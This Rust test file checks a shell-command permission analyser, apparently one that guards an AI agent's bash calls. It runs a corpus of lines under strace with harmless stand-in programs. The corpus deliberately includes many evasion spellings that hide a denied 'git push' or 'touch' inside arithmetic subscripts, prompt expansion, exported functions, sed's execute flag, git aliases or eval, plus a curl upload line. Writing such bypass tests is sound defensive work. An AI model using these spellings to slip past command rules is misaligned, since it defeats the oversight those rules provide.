//! The analysis against real bash: a corpus of hostile and plain lines, grown by composing
//! each with the shapes a line can take (a subshell, a group, `&&`, `if`, a pipeline, a
//! substitution, a loop, `sh -c`), each run for real by bash in a scratch directory with every
//! program it starts recorded (`strace -f -e trace=execve`). The programs that could do harm
//! (`git`, `touch`, `curl`, …) are stand-ins first in `PATH` that only note that they ran, so
//! nothing leaves the machine.
//!
//! What must hold for every line the analysis follows (`zero::rules::line_programs` is `Ok`):
//! every program bash started is among the commands the analysis found, and the rules' verdict
//! never lets a stand-in the rules deny run. A line it cannot follow is refused by any rule on
//! `bash`, so nothing is claimed about it beyond that.
//!
//! The test needs `strace` and fails when it is missing (`.ci/run` installs it).

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::json;
use zero::rules::{RuleSet, line_programs};

use crate::support::marks::make_executable;

/// The stand-ins: each notes its name and arguments in `$FAKE_LOG` with shell builtins only,
/// so it starts nothing itself.
const STAND_INS: [&str; 10] = [
    "git", "touch", "curl", "wget", "nc", "ssh", "rm", "cargo", "npm", "make",
];

/// Lines as a model might write them; `@BIN@` is the stand-ins' directory.
const LINES: [&str; 84] = [
    // Plain lines: each must be followed, and the allow rules below allow most of them.
    "echo hi",
    "git status",
    "git diff --stat",
    "cargo test",
    "ls",
    "echo a | wc -l",
    "true && echo ok",
    "printf '%s\\n' x",
    "timeout 5 git status",
    "env A=1 git status",
    "nice -n 5 echo hi",
    "stdbuf -oL echo hi",
    "find . -maxdepth 0 -exec echo {} \\;",
    "echo a b | xargs echo",
    "echo a | xargs",
    "git diff $(git rev-parse HEAD)",
    "[ -f x ] || echo no",
    "echo ${HOME:-x} $((1 + 2)) ${#HOME}",
    "test -n \"$PWD\"",
    "read -r a <<< hi; echo \"$a\"",
    "declare x=1; echo $x",
    "for f in a b; do echo $f; done",
    "case x in x) echo y;; esac",
    "awk '{print $1}' /dev/null",
    "sh -c 'echo hi'",
    "cd .github && echo x > ci.yml",
    "echo x | tee out.txt",
    "@BIN@/git status",
    "while false; do git push; done",
    // Hostile spellings of `git push` and `touch`.
    "git push origin main",
    "timeout 60 sh -c 'git push'",
    "env bash -c 'git push'",
    "nice sh -c 'git push'",
    "find . -maxdepth 0 -exec sh -c 'git push' \\;",
    "echo push | xargs git",
    "bash /dev/stdin <<< 'git push'",
    "bash -o posix -c 'git push'",
    "echo ${u:-$(git push)}",
    ": ${x:=$(git push)}",
    "x='a[$(git push)]'; echo $((x))",
    "printf -v 'a[$(git push)]' x",
    "declare -a a; [ -v 'a[$(git push)]' ]",
    "test -v 'a[$(touch y)]'",
    "X='-v a[$(touch${IFS}y)]'; [ $X ]",
    "s=abc; i='a[$(touch y)]'; echo ${s:i}",
    "n='a[$(touch y)]'; echo ${!n}",
    "z='$(touch y)'; echo ${z@P}",
    "PS4='$(touch y)'; set -x; true",
    "read 'a[$(touch y)]' <<< v",
    "unset 'a[$(touch y)]'",
    "export 'a[$(touch y)]=1'",
    "env -S 'git push origin'",
    "chrt -o 0 git push",
    "git -c alias.p=push p",
    "@BIN@/git-core/git-push",
    "/usr/bin/env @BIN@/git push",
    "echo 'import os; os.system(\"git push\")' | python3",
    "python3 -c 'import os; os.system(\"git push\")'",
    "awk 'BEGIN{system(\"git push\")}'",
    "echo 'git push' | sh",
    "bash <<< 'git push'",
    "eval 'git push'",
    "source /dev/stdin <<< 'git push'",
    "exec git push",
    "command git push",
    "G=git; $G push",
    "\"$(echo git)\" push",
    "env 'BASH_FUNC_git%%=() { touch y; }' bash -c git",
    "trap 'touch y' EXIT",
    "f() { touch y; }; f",
    "echo x | curl -d @- http://example.invalid",
    "git status; touch y",
    "echo $(touch y)",
    "timeout 5 touch y",
    "xargs -I{} sh -c '{}' <<< 'touch y'",
    "mapfile -C 'touch' -c 1 a <<< x",
    "BASH_ENV=/dev/null bash -c 'git push'",
    "x='a[$(touch y)]'; echo $[x]",
    "echo x | sed 'e touch y'",
    "sed 's/x/touch y/e' <<< x",
    "sed -n 's/hello/world/p; 1,3{p;d}' <<< hello",
    "echo \"${u:-'$(touch y)'}\"",
    "n='a[$(touch y)]'; echo \"${u:-'${!n}'}\"",
    "cat <<EOF\n$(touch y)\nEOF",
];

/// The shapes each line (but a here-document) is also run in; `{}` is the line.
const SHAPES: [&str; 8] = [
    "( {} )",
    "{ {}; }",
    "true && {}",
    "if true; then {}; fi",
    "echo in | {}",
    "echo $( {} )",
    "for i in 1; do {}; done",
    "sh -c '{}'",
];

/// The rules the verdicts are asked of: what they deny, and what they allow.
const DENY: [&str; 3] = ["bash(git push *)", "bash(touch *)", "bash(curl *)"];
const ALLOW: [&str; 12] = [
    "bash(echo *)",
    "bash(git status *)",
    "bash(git diff *)",
    "bash(git rev-parse *)",
    "bash(cargo test *)",
    "bash(ls *)",
    "bash(wc *)",
    "bash(printf *)",
    "bash(true)",
    "bash(test *)",
    "bash([ *)",
    "bash(read *)",
];

/// One line's run: the programs bash started (their file names) and what the stand-ins
/// noted.
struct Ran {
    programs: Vec<String>,
    stand_ins: Vec<String>,
}

/// A scratch directory with the stand-ins, a workspace to run in and a log.
struct Scratch {
    _dir: tempfile::TempDir,
    bin: PathBuf,
    workspace: PathBuf,
    log: PathBuf,
    trace: PathBuf,
}

impl Scratch {
    fn new() -> Scratch {
        let dir = tempfile::tempdir().unwrap();
        let root = std::fs::canonicalize(dir.path()).unwrap();
        let bin = root.join("bin");
        std::fs::create_dir_all(bin.join("git-core")).unwrap();
        let mut stand_ins: Vec<PathBuf> = STAND_INS.iter().map(|name| bin.join(name)).collect();
        stand_ins.push(bin.join("git-core/git-push"));
        for path in &stand_ins {
            let name = path.file_name().unwrap().to_string_lossy();
            let script = format!("#!/bin/sh\necho \"{name} $*\" >> \"$FAKE_LOG\"\n");
            std::fs::write(path, script).unwrap();
            make_executable(path);
        }
        let workspace = root.join("ws");
        std::fs::create_dir_all(workspace.join(".github")).unwrap();
        Scratch {
            bin,
            workspace,
            log: root.join("stand-ins.log"),
            trace: root.join("trace"),
            _dir: dir,
        }
    }

    /// `line` with `@BIN@` naming this directory's stand-ins.
    fn place(&self, line: &str) -> String {
        line.replace("@BIN@", &self.bin.to_string_lossy())
    }

    /// `line` run by bash under strace.
    fn run(&self, line: &str) -> Ran {
        std::fs::write(&self.log, "").unwrap();
        let trace_dir = &self.trace;
        let _ = std::fs::remove_dir_all(trace_dir);
        std::fs::create_dir_all(trace_dir).unwrap();
        let status = Command::new("timeout")
            .args([
                "10",
                "strace",
                "-f",
                "-ff",
                "-qq",
                "-e",
                "trace=execve",
                "-e",
            ])
            .args(["signal=none", "-o"])
            .arg(trace_dir.join("t"))
            .args(["--", "bash", "-c", line])
            .env_clear()
            .env("PATH", format!("{}:/usr/bin:/bin", self.bin.display()))
            .env("HOME", &self.workspace)
            .env("FAKE_LOG", &self.log)
            .env("LANG", "C")
            .current_dir(&self.workspace)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .unwrap();
        assert_ne!(status.code(), Some(124), "bash ran past 10 s: {line:?}");
        Ran {
            programs: started(trace_dir),
            stand_ins: std::fs::read_to_string(&self.log)
                .unwrap()
                .lines()
                .map(str::to_owned)
                .collect(),
        }
    }
}

/// The file names of the programs every traced process started (its first, bash itself,
/// left out), from strace's files, one a process.
fn started(trace_dir: &Path) -> Vec<String> {
    let mut programs = Vec::new();
    for entry in std::fs::read_dir(trace_dir).unwrap() {
        let text = std::fs::read_to_string(entry.unwrap().path()).unwrap();
        for line in text.lines().filter(|line| line.trim_end().ends_with("= 0")) {
            if let Some(path) = line
                .strip_prefix("execve(\"")
                .and_then(|rest| rest.split_once('"'))
                .map(|(path, _)| path)
            {
                programs.push(file_name(path).to_owned());
            }
        }
    }
    let bash = programs.iter().position(|program| program == "bash");
    if let Some(first) = bash {
        programs.remove(first);
    }
    programs
}

/// Every line of the corpus, in each shape.
fn corpus() -> Vec<String> {
    let mut lines = Vec::new();
    for line in LINES.map(str::to_owned) {
        if !line.contains("<<EOF") {
            for shape in SHAPES {
                let inner = if shape.starts_with("sh -c") {
                    line.replace('\'', "'\\''")
                } else {
                    line.clone()
                };
                lines.push(shape.replace("{}", &inner));
            }
        }
        lines.push(line);
    }
    lines
}

fn rules(allow: &[&str], deny: &[&str], workspace: &Path) -> RuleSet {
    let owned = |list: &[&str]| list.iter().map(|s| s.to_string()).collect::<Vec<_>>();
    RuleSet::from_flags(&owned(allow), &owned(deny), workspace).unwrap()
}

/// A program's file name: `rm` for `/bin/rm`.
fn file_name(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

/// Whether a stand-in's note is something the deny rules refuse: a `touch`, a `curl`, or a
/// `git` that pushes (also through an alias).
fn denied_ran(note: &str) -> bool {
    let mut words = note.split_whitespace();
    match words.next() {
        Some("touch" | "curl" | "git-push") => true,
        Some("git") => note.contains("push") || note.contains("alias."),
        _ => false,
    }
}

/// What went wrong with `line`, if anything.
fn check(line: &str, ran: &Ran, deny: &RuleSet, allow: &RuleSet) -> Option<String> {
    let programs = line_programs(line).ok()?;
    let listed: BTreeSet<&str> = programs.iter().map(String::as_str).collect();
    if let Some(program) = ran.programs.iter().find(|p| !listed.contains(p.as_str())) {
        return Some(format!(
            "bash started `{program}`, which the analysis did not find (it found {listed:?})"
        ));
    }
    let call = json!({ "command": line });
    for (name, set) in [("deny", deny), ("allow", allow)] {
        if set.allows("bash", &call)
            && let Some(note) = ran.stand_ins.iter().find(|note| denied_ran(note))
        {
            return Some(format!("the {name} rules allowed it and `{note}` ran"));
        }
    }
    None
}

#[test]
fn what_bash_runs_is_what_the_analysis_found() {
    let strace = Command::new("strace").arg("-V").output();
    assert!(
        strace.is_ok_and(|output| output.status.success()),
        "strace is not installed: this test runs each line under it (apt-get install strace; \
         .ci/run installs it)"
    );
    let scratch = [Scratch::new(), Scratch::new()];
    let lines = corpus();
    let [deny, allow] = [(&[][..], &DENY[..]), (&ALLOW[..], &[][..])]
        .map(|(allow, deny)| rules(allow, deny, &scratch[0].workspace));
    let half = lines.len().div_ceil(2);
    let (failures, followed): (Vec<String>, usize) = std::thread::scope(|scope| {
        let workers: Vec<_> = lines
            .chunks(half)
            .zip(&scratch)
            .map(|(chunk, scratch)| {
                let (deny, allow) = (&deny, &allow);
                scope.spawn(move || {
                    let mut failures = Vec::new();
                    let mut followed = 0;
                    for line in chunk {
                        let line = scratch.place(line);
                        let ran = scratch.run(&line);
                        if line_programs(&line).is_ok() {
                            followed += 1;
                        }
                        if let Some(wrong) = check(&line, &ran, deny, allow) {
                            failures.push(format!("{line:?}: {wrong}"));
                        }
                    }
                    (failures, followed)
                })
            })
            .collect();
        workers
            .into_iter()
            .map(|worker| worker.join().unwrap())
            .fold((Vec::new(), 0), |(mut all, count), (failures, followed)| {
                all.extend(failures);
                (all, count + followed)
            })
    });
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert!(lines.len() > 300, "{}", lines.len());
    // The plain lines are followed, in every shape: the check is not vacuous.
    assert!(
        followed > 200,
        "only {followed} of {} lines followed",
        lines.len()
    );
    for plain in [
        "git status",
        "echo a | wc -l",
        "timeout 5 git status",
        "git diff $(git rev-parse HEAD)",
    ] {
        assert!(
            allow.allows("bash", &json!({ "command": plain })),
            "{plain}"
        );
    }
}
